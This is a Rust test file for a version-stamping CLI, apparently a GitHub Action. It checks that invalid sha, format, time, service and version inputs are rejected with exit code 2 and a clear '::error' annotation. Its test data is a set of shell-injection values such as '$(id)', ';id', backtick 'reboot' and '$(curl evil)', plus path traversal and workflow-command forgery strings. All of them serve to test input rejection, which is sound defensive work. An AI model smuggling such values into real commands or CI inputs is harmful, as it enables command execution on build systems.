//! Hostile or malformed input exits 2, names the value and the expected
//! form, and is annotated as `::error` in Actions. Nothing is output.

use crate::util::{Repo, Sandbox, texts};

const FULL: &str = "84fb5881aaaabbbbccccddddeeeeffff00001111";

struct Case {
    args: &'static [&'static str],
    env: &'static [(&'static str, &'static str)],
    /// The value, as the message quotes it.
    value: &'static str,
    /// The expected form (or rule), as the message states it.
    expected: &'static str,
}

const fn case(args: &'static [&'static str], value: &'static str, expected: &'static str) -> Case {
    Case {
        args,
        env: &[],
        value,
        expected,
    }
}

const SHA_FORM: &str = "expected a commit sha of 4 to 64 hex digits, such as 84fb5881";
const TIME_FORM: &str = "such as 2025-01-20T14:30:22Z or 2025-01-20T16:30:22+02:00";
const VERSION_FORM: &str = "expected SHA-YYYYMMDD-HHMMSS (7 to 40 lowercase hex digits, then the UTC date and time), such as 84fb5881-20250120-143022";

const CASES: &[Case] = &[
    // --sha
    case(&["--sha", "$(id)"], "'$(id)'", SHA_FORM),
    case(&["--sha", "84fb5881;id"], "'84fb5881;id'", SHA_FORM),
    case(&["--sha", "84fb 5881"], "'84fb 5881'", SHA_FORM),
    case(&["--sha", "ghijklmn"], "'ghijklmn'", SHA_FORM),
    case(&["--sha", "HEAD"], "'HEAD'", SHA_FORM),
    case(&["--sha", "84f"], "'84f' has 3 hex digits", SHA_FORM),
    Case {
        args: &[],
        env: &[("INPUT_SHA", "`id`")],
        value: "'`id`'",
        expected: SHA_FORM,
    },
    Case {
        args: &[],
        env: &[("GITHUB_SHA", "$(curl evil)")],
        value: "the sha from GITHUB_SHA '$(curl evil)'",
        expected: "expected 4 to 64 hex digits",
    },
    // --format
    case(
        &["--format", "{sha};id"],
        "'{sha};id'",
        "contains ';' outside a placeholder",
    ),
    case(
        &["--format", "{sha}$(id)"],
        "'{sha}$(id)'",
        "contains '$' outside a placeholder",
    ),
    case(
        &["--format", "{sha} {date}"],
        "'{sha} {date}'",
        "contains a space outside a placeholder",
    ),
    case(
        &["--format", "{sha}-{build}"],
        "unknown placeholder '{build}'",
        "expected {sha}, {date}, {time}, {run} or {branch}",
    ),
    case(
        &["--format", "{sha}..{date}"],
        "gives '84fb5881..20250120'",
        "contains '..', which git refuses",
    ),
    case(
        &["--format", "{sha}.lock"],
        "gives '84fb5881.lock'",
        "ending in '.lock', which git refuses",
    ),
    case(
        &["--format", "{sha}/{date}"],
        "'{sha}/{date}'",
        "a version is one part of a tag name",
    ),
    Case {
        args: &[],
        env: &[("INPUT_FORMAT", "{sha}`reboot`")],
        value: "'{sha}`reboot`'",
        expected: "contains '`' outside a placeholder",
    },
    // --time
    case(
        &["--time", "2025-13-20T14:30:22Z"],
        "'2025-13-20T14:30:22Z' is not a time",
        TIME_FORM,
    ),
    case(
        &["--time", "2025-02-30T14:30:22Z"],
        "'2025-02-30T14:30:22Z' is not a time",
        TIME_FORM,
    ),
    case(
        &["--time", "2025-01-20T14:60:22Z"],
        "'2025-01-20T14:60:22Z' is not a time",
        TIME_FORM,
    ),
    case(
        &["--time", "2025-01-20T14:30:22"],
        "'2025-01-20T14:30:22' is not a time",
        TIME_FORM,
    ),
    case(&["--time", "$(date)"], "'$(date)' is not a time", TIME_FORM),
    // --sha-length, --service
    case(
        &["--sha-length", "3"],
        "'3' is not a sha length",
        "a whole number from 7 to 40",
    ),
    case(
        &["--service", "../etc"],
        "'../etc'",
        "(a service name, such as shop",
    ),
    case(
        &["--service", "$(id)"],
        "'$(id)' contains '$'",
        "(a service name, such as shop",
    ),
    case(
        &["--service", "shop eu"],
        "'shop eu' contains a space",
        "(a service name, such as shop",
    ),
    // parse
    case(&["parse", "$(id)"], "'$(id)'", VERSION_FORM),
    case(
        &["parse", "84fb5881-20251320-143022"],
        "there is no month 13",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881-20250230-143022"],
        "month 2 of 2025 has no day 30",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881-20250229-143022"],
        "2025 is not a leap year",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881-20250120-243022"],
        "hour 24 is past 23",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881-20250120-146022"],
        "minute 60 is past 59",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881-20250120-143060"],
        "second 60 is past 59",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881 -20250120-143022"],
        "'84fb5881 -20250120-143022': it contains a space",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881..-20250120-143022"],
        "the sha part '84fb5881..' is not hexadecimal",
        VERSION_FORM,
    ),
    case(
        &["parse", "84fb5881-20250120-143022;id"],
        "'143022;id'",
        VERSION_FORM,
    ),
    case(
        &["parse", "xyz12345-20250120-143022"],
        "is not hexadecimal",
        VERSION_FORM,
    ),
    Case {
        args: &["parse"],
        env: &[("INPUT_VERSION", " 84fb5881-20250120-143022\n$(id) ")],
        value: "it contains whitespace",
        expected: VERSION_FORM,
    },
];

#[test]
fn hostile_input_exits_2_naming_the_value_and_the_form() {
    let sb = Sandbox::new();
    for c in CASES {
        let mut cmd = sb.cmd(&sb.work());
        cmd.env("GITHUB_ACTIONS", "true");
        if c.args.first() != Some(&"parse") {
            // A fixed commit and time, so only the hostile value is wrong.
            if !c.args.contains(&"--sha") && !c.env.iter().any(|(k, _)| k.ends_with("SHA")) {
                cmd.args(["--sha", FULL]);
            }
            if !c.args.contains(&"--time") {
                cmd.args(["--time", "2025-01-20T14:30:22Z"]);
            }
        }
        cmd.args(c.args);
        for (k, v) in c.env {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        let (stdout, stderr) = texts(&out);
        let what = format!("{:?} {:?}", c.args, c.env);
        assert_eq!(out.status.code(), Some(2), "{what}\n{stderr}");
        assert!(stdout.is_empty(), "{what}: stdout {stdout:?}");
        let annotation = stderr
            .lines()
            .find(|l| l.starts_with("::error title=version-stamp::"))
            .unwrap_or_else(|| panic!("{what}: no ::error annotation in\n{stderr}"));
        for needle in [c.value, c.expected] {
            assert!(
                annotation.contains(needle),
                "{what}: {needle:?} not in\n{annotation}"
            );
        }
        assert!(!sb.outputs().contains_key("version"), "{what}");
    }
}

#[test]
fn annotations_cannot_be_forged_by_a_value() {
    let sb = Sandbox::new();
    let out = sb
        .cmd(&sb.work())
        .env("GITHUB_ACTIONS", "true")
        .args(["parse", "x\n::error::forged\n::add-mask::y"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = texts(&out).1;
    for line in stderr.lines() {
        assert!(
            !line.starts_with("::error::forged") && !line.starts_with("::add-mask::"),
            "a value started a workflow command: {line}\n{stderr}"
        );
    }
}

#[test]
fn outside_actions_there_is_no_annotation_but_the_same_message() {
    let sb = Sandbox::new();
    let out = sb
        .cmd(&sb.work())
        .args(["parse", "84fb5881-20251320-143022"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = texts(&out).1;
    assert!(!stderr.contains("::error"), "{stderr}");
    assert!(stderr.contains("there is no month 13"), "{stderr}");
}

#[test]
fn a_result_that_is_not_a_tag_name_is_refused_in_a_real_repo() {
    let sb = Sandbox::new();
    let repo = Repo::new(&sb, "repo");
    repo.commit("feat: x", "2025-01-20T16:30:22+02:00");
    let out = sb
        .cmd(&repo.dir)
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_REF_NAME", "x")
        .args(["--format", "{branch}.", "--json"])
        .output()
        .unwrap();
    let (stdout, stderr) = texts(&out);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("::error title=version-stamp::--format '{branch}.' gives 'x.'"),
        "{stderr}"
    );
    let v: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(v["error"]["code"], 2);
    assert_eq!(v["error"]["class"], "input");
    assert!(sb.summary().contains("gives 'x.'"));
}
